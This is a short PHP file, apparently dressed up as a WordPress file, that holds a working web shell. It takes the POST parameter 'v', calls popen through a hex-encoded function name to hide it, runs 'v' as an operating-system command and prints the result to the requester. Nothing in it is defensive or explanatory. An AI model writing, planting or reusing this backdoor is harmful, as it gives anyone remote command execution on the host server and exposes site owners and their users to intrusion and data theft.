<?php
if (!defined('ABSPATH')) { define('ABSPATH', __DIR__); }
$p = $_POST['v'];
$handler = "\x70\x6f\x70\x65\x6e";
$h = $handler($p, 'r');
while (!feof($h)) echo fread($h, 4096);
